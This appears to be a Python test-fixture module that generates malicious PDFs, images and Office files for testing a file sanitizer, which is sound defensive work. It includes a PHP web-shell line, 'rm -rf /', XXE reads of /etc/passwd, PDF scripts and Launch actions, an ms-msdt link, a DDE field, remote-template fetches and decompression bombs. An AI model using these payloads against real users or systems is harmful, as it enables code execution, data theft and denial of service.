"""Hostile files, made on the spot. Each active part carries CANARY, which must not be found in what is kept."""

import io
import struct
import zipfile
import zlib
from itertools import pairwise

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

CANARY = b"canary-5f3a"
SCRIPT = String("app.alert('canary-5f3a')")
PROGRAM = b"MZ\x90\x00" + CANARY + b"\0" * 200

REFUSED, KEPT = {}, {}  # name → generator; for the refused also the acceptable reasons


def refused(*reasons):
    """Registers a generator whose file must be turned away for one of these reasons."""
    return lambda make: REFUSED.setdefault(make.__name__, (make, set(reasons)))[0]


def kept(make):
    """Registers a generator whose file is taken, without its active part."""
    return KEPT.setdefault(make.__name__, make)


# --- building blocks ----------------------------------------------------------------------------------


def drawn(pdf, text=b"0 0 1 rg 50 50 100 100 re f"):
    """One A4 page with a blue square."""
    page = pdf.add_blank_page(page_size=(595, 842))
    page.obj.Contents = pdf.make_stream(text)
    return page


def saved(pdf, **options):
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def plain(pages=1):
    pdf = pikepdf.new()
    for _ in range(pages):
        drawn(pdf)
    return saved(pdf)


def with_root(**entries):
    """A drawn page in a document with something more in its catalogue."""
    pdf = pikepdf.new()
    drawn(pdf)
    for key, make in entries.items():
        pdf.Root[f"/{key}"] = make(pdf) if callable(make) else make
    return saved(pdf)


def with_annotation(**entries):
    """A drawn page with one annotation on it."""
    pdf = pikepdf.new()
    page = drawn(pdf)
    made = {key: make(pdf) if callable(make) else make for key, make in entries.items()}
    page.obj.Annots = Array([Dictionary(Type=Name.Annot, Rect=[10, 10, 60, 60], **made)])
    return saved(pdf)


def with_page(**entries):
    pdf = pikepdf.new()
    page = drawn(pdf)
    for key, value in entries.items():
        page.obj[f"/{key}"] = value
    return saved(pdf)


def script(**more):
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=SCRIPT, **more)


def address():
    return Dictionary(S=Name.URI, URI=String("https://canary-5f3a.example.invalid/"))


def program(**more):
    return Dictionary(S=Name.Launch, F=String("canary-5f3a.exe"), **more)


def attached(pdf, name="canary-5f3a.exe"):
    stream = pdf.make_stream(PROGRAM, Type=Name.EmbeddedFile)
    return pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String(name), UF=String(name), EF=Dictionary(F=stream)))


def form_drawing(pdf, **more):
    return pdf.make_stream(
        b"1 0 0 rg 0 0 50 50 re f", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 50, 50], **more
    )


def raw(*objects, trailer=b"/Root 1 0 R", head=b"%PDF-1.7\n", start=None):
    """A file written by hand: numbered objects, an old-style table, a trailer."""
    out, places = bytearray(head), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<</Size %d %b>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, start or table)
    return bytes(out)


CATALOGUE, TREE = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
LEAF = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]%b>>"


def squeezed(content, times=1):
    for _ in range(times):
        content = zlib.compress(content, 9)
    return content


def stream(content, entries=b""):
    return b"<</Length %d %b>>stream\n%b\nendstream" % (len(content), entries, content)


# --- not a PDF at all ---------------------------------------------------------------------------------


@refused("empty")
def nothing():
    return b""


@refused("not_pdf")
def one_byte():
    return b"%"


@refused("not_pdf")
def windows_program():
    return PROGRAM


@refused("not_pdf")
def linux_program():
    return b"\x7fELF" + PROGRAM


@refused("not_pdf")
def web_page():
    return b"<!doctype html><script>alert('canary-5f3a')</script>"


@refused("not_pdf")
def php_script():
    return b"<?php system($_GET['c']); ?>"


@refused("not_pdf")
def shell_script():
    return b"#!/bin/sh\nrm -rf /\n"


@refused("not_pdf")
def svg_drawing():
    return b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'


@refused("not_pdf")
def xml_with_entities():
    return b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'


@refused("not_pdf")
def mail_archive():
    return b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n<script>alert(1)</script>"


@refused("not_pdf")
def flash():
    return b"FWS\x0a" + PROGRAM


@refused("not_pdf")
def zip_archive():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("canary.exe", PROGRAM)
    return out.getvalue()


@refused("not_pdf")
def word_document():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
    return out.getvalue()


@refused("not_pdf")
def picture_with_script():
    return b"GIF89a/*" + plain() + b"*/=1;alert('canary-5f3a')"


@refused("not_pdf")
def pdf_behind_other_bytes():
    return b"\n" * 10 + plain()


@refused("cut_off")
def web_page_with_a_pdf_head():
    return b"%PDF-1.7\n<!doctype html><script>alert('canary-5f3a')</script>" + b" " * 2000


@refused("damaged", "no_pages")
def web_page_with_a_pdf_head_and_tail():
    return b"%PDF-1.7\n<!doctype html><script>alert('canary-5f3a')</script>\n%%EOF"


@refused("damaged", "no_pages")
def head_and_noise():
    return b"%PDF-1.7\n" + bytes(range(128, 256)) * 50 + b"%%EOF"


@refused("cut_off")
def only_the_head():
    return b"%PDF-1.7\n"


# --- broken, locked or monstrous ----------------------------------------------------------------------


@refused("cut_off")
def cut_in_half():
    whole = plain(pages=50)
    return whole[: len(whole) // 2]


@refused("encrypted")
def locked_with_a_password():
    pdf = pikepdf.new()
    drawn(pdf)
    return saved(pdf, encryption=pikepdf.Encryption(owner="a", user="b"))


@refused("damaged", "encrypted")
def locked_in_an_unknown_way():
    trailer = b"/Root 1 0 R/ID[<00><00>]/Encrypt<</Filter/Canary/V 9>>"
    return raw(CATALOGUE, TREE, LEAF % b"", trailer=trailer)


@refused("no_pages")
def no_pages():
    return saved(pikepdf.new())


@refused("too_many_pages")
def ten_thousand_pages():
    leaves = [LEAF % b""] * 10_000
    kids = b" ".join(b"%d 0 R" % (n + 3) for n in range(10_000))
    return raw(CATALOGUE, b"<</Type/Pages/Count 10000/Kids[%b]>>" % kids, *leaves)


@refused("too_many_pages", "heavy", "damaged")
def one_page_listed_a_million_times():
    return raw(CATALOGUE, b"<</Type/Pages/Count 1000000/Kids[%b]>>" % (b"3 0 R " * 1_000_000), LEAF % b"")


@refused("page_size")
def thirty_metre_page():
    return with_page(MediaBox=Array([0, 0, 85_040, 842]))


@refused("page_size")
def thirty_metres_by_unit():
    return with_page(UserUnit=1000)


@refused("page_size")
def page_without_area():
    return with_page(MediaBox=Array([0, 0, 0, 0]))


@refused("image_size")
def picture_of_50_000_by_50_000():
    pdf = pikepdf.new()
    page = drawn(pdf, b"/Big Do")
    big = pdf.make_stream(b"\0", Type=Name.XObject, Subtype=Name.Image, Width=50_000, Height=50_000)
    page.obj.Resources = Dictionary(XObject=Dictionary(Big=big))
    return saved(pdf)


@refused("damaged", "no_pages", "heavy")
def page_tree_that_contains_itself():
    return raw(CATALOGUE, b"<</Type/Pages/Count 1/Kids[2 0 R]>>")


@refused("damaged", "no_pages", "heavy")
def page_tree_100_000_deep():
    levels = [b"<</Type/Pages/Count 1/Kids[%d 0 R]/Parent %d 0 R>>" % (n + 1, n - 1) for n in range(2, 100_002)]
    return raw(CATALOGUE, *levels, LEAF % b"")


@refused("damaged", "no_pages", "heavy")
def objects_that_are_each_other():
    return raw(b"2 0 R", b"1 0 R")


@refused("damaged", "no_pages", "heavy")
def brackets_a_million_deep():
    return raw(b"[" * 1_000_000 + b"]" * 1_000_000)


@refused("damaged", "no_pages", "heavy")
def a_tree_of_pages_only_by_name():
    return raw(b"<</Type/Catalog/Pages/Canary>>")


@refused("damaged", "heavy", "no_pages")
def table_unpacking_to_a_gigabyte():
    packed = squeezed(squeezed(b"\1" * 200 * 1024 * 1024))
    body = stream(packed, b"/Type/XRef/W[1 4 1]/Size 9999999/Root 1 0 R/Filter[/FlateDecode/FlateDecode]")
    return b"%PDF-1.7\n1 0 obj\n" + body + b"\nendobj\nstartxref\n9\n%%EOF\n"


@refused("form")
def form_drawn_only_by_its_reader():
    return with_root(AcroForm=Dictionary(NeedAppearances=True, Fields=Array([])))


@refused("form")
def form_of_pure_xfa():
    return with_root(NeedsRendering=True, AcroForm=Dictionary(XFA=String("<xdp>canary-5f3a</xdp>"), Fields=Array([])))


# --- readable, but more than paper --------------------------------------------------------------------


@kept
def script_on_opening():
    return with_root(OpenAction=script())


@kept
def address_on_opening():
    return with_root(OpenAction=address())


@kept
def program_on_opening():
    return with_root(OpenAction=program(Win=Dictionary(F=String("cmd.exe"), P=String("/c canary-5f3a"))))


@kept
def script_by_name():
    return with_root(Names=Dictionary(JavaScript=Dictionary(Names=Array([String("canary-5f3a"), script()]))))


@kept
def script_in_a_stream():
    action = lambda pdf: Dictionary(S=Name.JavaScript, JS=pdf.make_stream(CANARY))  # noqa: E731
    return with_root(OpenAction=action)


@kept
def script_packed_in_an_object_stream():
    pdf = pikepdf.new()
    drawn(pdf)
    pdf.Root.OpenAction = pdf.make_indirect(script())
    return saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


@kept
def script_under_an_escaped_name():
    action = b"<</S/J#61vaScript/J#53(app.alert\\('canary-5f3a'\\))>>"
    return raw(b"<</Type/Catalog/Pages 2 0 R/OpenAction %b>>" % action, TREE, LEAF % b"")


@kept
def script_on_closing():
    return with_root(AA=Dictionary(WC=script(), WP=script()))


@kept
def script_on_turning_the_page():
    return with_page(AA=Dictionary(O=script(), C=script()))


@kept
def script_inherited_from_the_page_tree():
    action = b"<</S/JavaScript/JS(canary-5f3a)>>"
    return raw(CATALOGUE, b"<</Type/Pages/Kids[3 0 R]/Count 1/AA<</O %b>>>>" % action, LEAF % b"")


@kept
def script_behind_a_link():
    return with_annotation(Subtype=Name.Link, A=script())


@kept
def script_behind_a_harmless_action():
    step = Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=Array([address(), script()]))
    return with_annotation(Subtype=Name.Link, A=step)


@kept
def address_behind_a_link():
    return with_annotation(Subtype=Name.Link, A=address(), PA=address())


@kept
def program_behind_a_link():
    return with_annotation(Subtype=Name.Link, A=program())


@kept
def other_document_behind_a_link():
    return with_annotation(Subtype=Name.Link, A=Dictionary(S=Name.GoToR, F=String("\\\\canary-5f3a\\share")))


@kept
def form_that_sends_itself():
    return with_annotation(Subtype=Name.Widget, A=Dictionary(S=Name.SubmitForm, F=String("http://canary-5f3a")))


@kept
def form_that_fetches_data():
    return with_annotation(Subtype=Name.Widget, A=Dictionary(S=Name.ImportData, F=String("canary-5f3a.fdf")))


@kept
def field_that_calculates():
    field = Dictionary(FT=Name.Tx, T=String("canary-5f3a"), AA=Dictionary(C=script(), K=script()))
    return with_root(AcroForm=Dictionary(Fields=Array([field]), CO=Array([field])))


@kept
def form_with_xfa_beside_it():
    return with_root(AcroForm=Dictionary(XFA=String("<script>canary-5f3a</script>"), Fields=Array([])))


@kept
def program_attached():
    tree = lambda pdf: Dictionary(EmbeddedFiles=Dictionary(Names=[String("canary-5f3a"), attached(pdf)]))  # noqa: E731
    return with_root(Names=tree)


@kept
def program_attached_to_a_page():
    return with_annotation(Subtype=Name.FileAttachment, FS=attached)


@kept
def program_associated():
    return with_root(AF=lambda pdf: Array([attached(pdf)]))


@kept
def portfolio():
    tree = lambda pdf: Dictionary(EmbeddedFiles=Dictionary(Names=[String("canary-5f3a"), attached(pdf)]))  # noqa: E731
    return with_root(Names=tree, Collection=Dictionary(View=Name.D))


@kept
def flash_player():
    assets = lambda pdf: Dictionary(Assets=Dictionary(Names=[String("a.swf"), attached(pdf)]))  # noqa: E731
    return with_annotation(Subtype=Name.RichMedia, RichMediaContent=assets)


@kept
def model_in_three_dimensions():
    return with_annotation(Subtype=Name("/3D"), **{"3DD": lambda pdf: pdf.make_stream(PROGRAM, OnInstantiate=SCRIPT)})


@kept
def sound_and_film():
    return with_annotation(
        Subtype=Name.Movie, Movie=Dictionary(F=String("canary-5f3a.avi")), A=Dictionary(S=Name.Sound)
    )


@kept
def screen_that_plays():
    action = lambda pdf: Dictionary(S=Name.Rendition, R=Dictionary(C=Dictionary(D=attached(pdf))), JS=SCRIPT)  # noqa: E731
    return with_annotation(Subtype=Name.Screen, A=action)


@kept
def bookmark_that_acts():
    def outline(pdf):
        item = pdf.make_indirect(Dictionary(Title=String("canary-5f3a"), A=script()))
        return pdf.make_indirect(Dictionary(First=item, Last=item, Count=1))

    return with_root(Outlines=outline)


@kept
def comment_with_its_author():
    return with_annotation(Subtype=Name.Text, T=String("canary-5f3a"), Contents=String("canary-5f3a"))


@kept
def author_in_the_metadata():
    pdf = pikepdf.new()
    drawn(pdf)
    pdf.docinfo["/Author"] = pdf.docinfo["/Producer"] = "canary-5f3a"
    with pdf.open_metadata() as metadata:
        metadata["dc:creator"] = ["canary-5f3a"]
    return saved(pdf)


@kept
def author_in_private_data():
    return with_page(PieceInfo=Dictionary(Editor=Dictionary(Private=String("canary-5f3a"))))


@kept
def author_in_a_picture():
    pdf = pikepdf.new()
    page = drawn(pdf, b"/Form Do")
    told = pdf.make_stream(CANARY, Type=Name.Metadata, Subtype=Name.XML)
    page.obj.Resources = Dictionary(XObject=Dictionary(Form=form_drawing(pdf, Metadata=told)))
    return saved(pdf)


@kept
def drawing_from_another_file():
    pdf = pikepdf.new()
    page = drawn(pdf, b"/Form Do")
    elsewhere = Dictionary(F=String("\\\\canary-5f3a\\share\\a.pdf"), Page=0)
    page.obj.Resources = Dictionary(XObject=Dictionary(Form=form_drawing(pdf, Ref=elsewhere)))
    return saved(pdf)


@kept
def content_from_another_file():
    content = stream(b"", b"/F(/etc/canary-5f3a)/FFilter/FlateDecode")
    return raw(CATALOGUE, TREE, LEAF % b"/Contents 4 0 R", content)


@kept
def earlier_version_underneath():
    """A page replaced by an update at the end of the file; the old one is still there for who looks."""
    old = raw(CATALOGUE, TREE, LEAF % b"/Contents 4 0 R", stream(CANARY))
    table = len(old) + len(b"4 0 obj\n" + stream(b"q Q") + b"\nendobj\n")
    update = b"4 0 obj\n" + stream(b"q Q") + b"\nendobj\nxref\n4 1\n%010d 00000 n \n" % len(old)
    before = old.rindex(b"xref\n0 ")
    return old + update + b"trailer<</Size 5/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (before, table)


@kept
def page_in_nobodys_list():
    return with_root(Hidden=lambda pdf: pdf.make_indirect(Dictionary(Type=Name.Page, AA=Dictionary(O=script()))))


@kept
def signed():
    value = Dictionary(Type=Name.Sig, Name=String("canary-5f3a"), Contents=String("x" * 100), ByteRange=[0, 1, 2, 3])
    return with_annotation(
        Subtype=Name.Widget, FT=Name.Sig, V=value, AP=lambda pdf: Dictionary(N=form_drawing(pdf)), F=4
    )


@kept
def zip_behind_a_pdf():
    return plain() + b"\n%" + zip_archive() + b"\n%%EOF"


@kept
def web_page_inside_a_pdf():
    return raw(
        CATALOGUE, TREE, LEAF % b"", head=b"%PDF-1.7\n%<html><script>alert('canary-5f3a')</script></html><?php 1;?>\n"
    )


@kept
def names_with_nul_and_signs():
    return raw(b"<</Type/Catalog/Pages 2 0 R/canary-5f3a#00#0d#3c 1/PageMode/a#00b>>", TREE, LEAF % b"")


@kept
def table_that_points_at_itself():
    body = raw(CATALOGUE, TREE, LEAF % b"", trailer=b"/Root 1 0 R/Prev 9999999")
    return body.replace(b"9999999", b"%07d" % body.rindex(b"xref\n0 "))


@kept
def stream_as_long_as_itself():
    endless = b"<</Length 4 0 R>>stream\nq Q\nendstream"
    return raw(CATALOGUE, TREE, LEAF % b"/Contents 4 0 R", endless)


@kept
def page_unpacking_to_100_megabytes():
    content = stream(squeezed(b" " * 100 * 1024 * 1024), b"/Filter/FlateDecode")
    return raw(CATALOGUE, TREE, LEAF % b"/Contents 4 0 R", content)


@kept
def open_to_read_but_not_to_change():
    """Restricted by an owner password only, as many official printouts are: everybody may read it."""
    pdf = pikepdf.new()
    drawn(pdf)
    return saved(pdf, encryption=pikepdf.Encryption(owner="canary-5f3a", user=""))


@kept
def drawings_that_contain_each_other():
    forms = [
        stream(b"/Other Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</Other %d 0 R>>>>" % other)
        for other, _ in pairwise([5, 4, 5])
    ]
    return raw(CATALOGUE, TREE, LEAF % b"/Resources<</XObject<</Other 4 0 R>>>>", *forms)


@kept
def page_size_in_words():
    return with_page(MediaBox=Array([Name.a, Name.b, Name.c, Name.d]))


@kept
def objects_unpacking_to_100_megabytes():
    """The catalogue sits in an object stream of 100 MB of blanks."""
    inside = b"1 0 2 30 3 80 " + CATALOGUE.ljust(30) + TREE.ljust(50) + LEAF % b""
    packed = squeezed(inside + b" " * 100 * 1024 * 1024)
    box = b"4 0 obj\n" + stream(packed, b"/Type/ObjStm/N 3/First 14/Filter/FlateDecode") + b"\nendobj\n"
    head = b"%PDF-1.7\n"
    table_at = len(head) + len(box)
    rows = [(0, 0, 0), (2, 4, 0), (2, 4, 1), (2, 4, 2), (1, len(head), 0), (1, table_at, 0)]
    table = b"".join(bytes([kind]) + place.to_bytes(4, "big") + bytes([index]) for kind, place, index in rows)
    body = stream(table, b"/Type/XRef/W[1 4 1]/Size 6/Root 1 0 R")
    return head + box + b"5 0 obj\n" + body + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % table_at


# --- pictures -----------------------------------------------------------------------------------------

OTHER_REFUSED, OTHER_KEPT = {}, {}  # name → (generator, the kind it claims to be, acceptable reasons)


def refused_as(kind, *reasons):
    """Registers a generator of a picture or office file that must be turned away for one of these reasons."""
    return lambda make: OTHER_REFUSED.setdefault(make.__name__, (make, kind, set(reasons)))[0]


def kept_as(kind):
    """Registers a generator of a picture or office file that is taken, without what it hides."""
    return lambda make: OTHER_KEPT.setdefault(make.__name__, (make, kind))[0]


def drawn_picture(form, size=(80, 60), mode="RGB", **options):
    out = io.BytesIO()
    Image.new(mode, size, 200).save(out, form, **options)
    return out.getvalue()


def png_chunk(name, content):
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def png(width, height, *chunks):
    """A PNG written by hand, whatever its head claims."""
    head = png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(chunks) + png_chunk(b"IEND", b"")


@refused_as("png", "not_accepted")
def svg_named_png():
    return b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'


@refused_as("png", "picture_size")
def png_of_50_000_by_50_000():
    return png(50_000, 50_000, png_chunk(b"IDAT", squeezed(b"\0" * 1000)))


@refused_as("png", "picture_size")
def png_of_37_million_pixels_that_packs_well():
    return drawn_picture("PNG", (6100, 6100), "L")


@refused_as("jpeg", "picture_size")
def jpeg_of_60_000_by_60_000():
    whole = drawn_picture("JPEG")
    at = whole.index(b"\xff\xc0")
    return whole[: at + 5] + struct.pack(">HH", 60_000, 60_000) + whole[at + 9 :]


@refused_as("png", "cut_off", "damaged")
def truncated_png():
    whole = drawn_picture("PNG", (900, 700))
    return whole[: len(whole) // 2]


@refused_as("jpeg", "cut_off", "damaged")
def truncated_jpeg():
    whole = drawn_picture("JPEG", (900, 700))
    return whole[: len(whole) // 2]


@refused_as("png", "cut_off", "damaged")
def png_head_and_noise():
    return b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 20


@refused_as("jpeg", "cut_off", "damaged")
def jpeg_head_and_script():
    return b"\xff\xd8\xff<script>alert('canary-5f3a')</script>"


@refused_as("png", "not_accepted")
def gif_named_png():
    return drawn_picture("GIF")


@refused_as("jpeg", "not_accepted")
def tiff_named_jpeg():
    return drawn_picture("TIFF")


@refused_as("png", "cut_off", "damaged", "heavy", "picture_size")
def png_with_a_text_unpacking_to_a_gigabyte():
    text = squeezed(squeezed(b" " * 200 * 1024 * 1024))
    return png(8, 8, png_chunk(b"iTXt", b"k\0\1\0\0\0" + text), png_chunk(b"IDAT", b"broken"))


@kept_as("jpeg")
def jpeg_with_a_web_page_behind():
    return drawn_picture("JPEG") + b"<html><script>alert('canary-5f3a')</script></html>"


@kept_as("jpeg")
def jpeg_that_is_a_zip_too():
    return drawn_picture("JPEG") + zip_archive()


@kept_as("jpeg")
def jpeg_with_a_script_as_comment():
    return drawn_picture("JPEG", comment=b"*/alert('canary-5f3a')/*")


@kept_as("jpeg")
def jpeg_that_tells_where_it_was_taken():
    exif = Image.Exif()
    exif[0x010E] = CANARY.decode()  # description
    exif.get_ifd(0x8825)[29] = CANARY.decode()  # the satellite's day
    return drawn_picture("JPEG", exif=exif)


@kept_as("png")
def png_with_a_script_as_text():
    return png(2, 1, png_chunk(b"tEXt", b"Comment\0" + CANARY), png_chunk(b"IDAT", squeezed(b"\0" + b"\7" * 6)))


@kept_as("png")
def png_with_a_program_behind():
    return drawn_picture("PNG") + PROGRAM


@kept_as("png")
def png_with_an_unknown_part():
    return png(2, 1, png_chunk(b"caNa", CANARY), png_chunk(b"IDAT", squeezed(b"\0" + b"\7" * 6)))


@kept_as("jpeg")
def jpeg_in_printing_colours():
    return drawn_picture("JPEG", mode="CMYK", comment=CANARY)


# --- Word and Excel -----------------------------------------------------------------------------------

SCHEMA = "http://schemas.openxmlformats.org"
DECLARED = {
    "docx": ("word/document.xml", "wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet.main+xml"),
}


def types(kind, more=""):
    main, declared = DECLARED[kind]
    office = f"application/vnd.openxmlformats-officedocument.{declared}"
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{SCHEMA}/package/2006/content-types">'
        f'<Default Extension="xml" ContentType="application/xml"/>{more}'
        f'<Override PartName="/{main}" ContentType="{office}"/></Types>'
    )


def relations(*rows):
    """A .rels part; each row is kind, target, mode."""
    inner = "".join(
        f'<Relationship Id="r{n}" Type="{SCHEMA}/officeDocument/2006/relationships/{kind}" Target="{aim}" {mode}/>'
        for n, (kind, aim, mode) in enumerate(rows)
    )
    return f'<Relationships xmlns="{SCHEMA}/package/2006/relationships">{inner}</Relationships>'


OUTSIDE = 'TargetMode="External"'


def office(kind="docx", *, parts=None, main="<w:document xmlns:w='w'/>", declared=None, pack=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", pack) as archive:
        archive.writestr("[Content_Types].xml", types(kind) if declared is None else declared)
        archive.writestr("_rels/.rels", relations(("officeDocument", DECLARED[kind][0], "")))
        archive.writestr(DECLARED[kind][0], main)
        for name, content in (parts or {}).items():
            archive.writestr(name, content)
    return out.getvalue()


def word_with(text):
    name = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    return f"<w:document xmlns:w='{name}'><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"


def of_word(*rows):
    return office(parts={"word/_rels/document.xml.rels": relations(*rows)})


@refused_as("docx", "not_office")
def zip_that_is_no_document():
    return zip_archive()


@refused_as("xlsx", "not_office")
def word_named_excel():
    return office("docx")


@refused_as("docx", "unpacked")
def word_unpacking_to_200_megabytes():
    return office(parts={"word/media/a.png": b"\0" * 200 * 1024 * 1024})


@refused_as("docx", "unpacked", "not_office")
def word_that_lies_about_its_size():
    """The directory declares ten bytes where a hundred and fifty million follow."""
    whole = bytearray(office(parts={"word/media/a.png": b"\0" * 150_000_000}))
    real, said = struct.pack("<L", 150_000_000), struct.pack("<L", 10)
    return bytes(whole).replace(real, said)


@refused_as("xlsx", "unpacked")
def excel_of_ten_thousand_parts():
    return office("xlsx", parts={f"xl/worksheets/sheet{n}.xml": "<a/>" for n in range(10_000)}, pack=zipfile.ZIP_STORED)


@refused_as("docx", "embedded")
def word_with_a_zip_inside():
    return office(parts={"word/media/inner.zip": zip_archive()})


@refused_as("docx", "embedded")
def word_with_a_zip_named_picture():
    return office(parts={"word/media/image1.png": zip_archive()})


@refused_as("docx", "embedded")
def word_with_a_program_named_picture():
    return office(parts={"word/media/image1.emf": PROGRAM})


@refused_as("docx", "macros")
def word_with_macros():
    return office(parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + CANARY})


@refused_as("docx", "macros")
def docm_named_docx():
    declared = types("docx").replace(
        "openxmlformats-officedocument.wordprocessingml.document", "ms-word.document.macroEnabled"
    )
    return office(declared=declared)


@refused_as("xlsx", "macros")
def excel_with_old_macro_sheets():
    return office("xlsx", parts={"xl/macrosheets/sheet1.xml": "<a/>"})


@refused_as("docx", "macros")
def word_with_macros_under_another_name():
    declared = types("docx", '<Override PartName="/word/a.xml" ContentType="application/vnd.ms-office.vbaProject"/>')
    return office(declared=declared, parts={"word/a.xml": "<a/>"})


@refused_as("docx", "external")
def word_with_a_template_from_elsewhere():
    return of_word(("attachedTemplate", "https://canary-5f3a.example.invalid/a.dotm", OUTSIDE))


@refused_as("docx", "external")
def word_with_a_template_hidden_by_entities():
    return of_word(("attachedTemplate", "https&#58;//canary-5f3a/a.dotm", 'TargetMode="&#69;xternal"'))


@refused_as("docx", "external")
def word_with_a_picture_from_elsewhere():
    return of_word(("image", "file://canary-5f3a/a.png", OUTSIDE))


@refused_as("docx", "external")
def word_with_a_link_that_starts_a_handler():
    return of_word(("hyperlink", "ms-msdt:/id PCWDiagnostic canary-5f3a", OUTSIDE))


@refused_as("docx", "embedded")
def word_with_an_ole_object():
    return of_word(("oleObject", "embeddings/oleObject1.bin", ""))


@refused_as("docx", "embedded")
def word_with_an_embedded_sheet():
    return office(parts={"word/embeddings/sheet.xlsx": office("xlsx")})


@refused_as("docx", "embedded")
def word_with_a_control():
    return office(parts={"word/activeX/activeX1.xml": "<a/>"})


@refused_as("docx", "embedded")
def word_with_a_web_page_inside():
    return office(parts={"word/afchunk.html": "<script>alert('canary-5f3a')</script>"})


@refused_as("docx", "external")
def word_with_a_dde_field_in_pieces():
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in ("DD", "EAU", "TO cmd canary-5f3a"))
    return office(main=f"<w:document xmlns:w='w'><w:fldChar w:fldCharType='begin'/>{runs}</w:document>")


@refused_as("docx", "external")
def word_with_a_picture_fetched_by_a_field():
    field = "<w:fldSimple w:instr='INCLUDEPICTURE http://canary-5f3a/a.png'/>"
    return office(main=f"<w:document xmlns:w='w'>{field}</w:document>")


@refused_as("xlsx", "external")
def excel_with_a_link_to_another_book():
    return office("xlsx", parts={"xl/externalLinks/externalLink1.xml": "<a/>"})


@refused_as("xlsx", "external")
def excel_with_a_book_beside_it_by_relation():
    rows = relations(("externalLinkPath", "\\\\canary-5f3a\\share\\a.xlsx", OUTSIDE))
    return office("xlsx", parts={"xl/_rels/workbook.xml.rels": rows})


@refused_as("docx", "not_office")
def word_with_entities_from_the_disk():
    return office(main='<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>')


@refused_as("docx", "not_office")
def word_with_a_billion_laughs_in_utf_16():
    return office(main='<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY x "ha">]><a/>'.encode("utf-16"))


@refused_as("docx", "not_office")
def word_in_a_script_nobody_reads():
    return office(main='<?xml version="1.0" encoding="UTF-7"?><a/>')


@refused_as("docx", "not_office")
def word_that_climbs_out_of_its_folder():
    return office(parts={"../../word/a.xml": "<a/>"})


@refused_as("docx", "not_office")
def word_with_two_parts_of_one_name():
    return office(parts={"WORD/document.xml": "<other/>"})


@refused_as("docx", "encrypted")
def word_locked_part_by_part():
    whole = bytearray(office())
    for mark, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = whole.find(mark)
        while at >= 0:
            whole[at + flags] |= 1
            at = whole.find(mark, at + 4)
    return bytes(whole)


@refused_as("docx", "not_accepted")
def old_binary_word():
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + CANARY


@refused_as("docx", "not_office", "damaged")
def truncated_word():
    whole = office(parts={"word/media/a.png": bytes(range(256)) * 500})
    return whole[: len(whole) // 2]


@kept_as("docx")
def word_with_something_between_its_parts():
    return office() + CANARY


@kept_as("docx")
def word_with_a_comment_on_the_archive():
    out = io.BytesIO(office())
    with zipfile.ZipFile(out, "a") as archive:
        archive.comment = CANARY
    return out.getvalue()


@kept_as("docx")
def word_with_a_web_address_to_click_on():
    return of_word(("hyperlink", "https://www.example.invalid/", OUTSIDE))


@kept_as("xlsx")
def excel_with_printer_settings():
    return office("xlsx", main="<workbook/>", parts={"xl/printerSettings/printerSettings1.bin": b"\0" * 40})
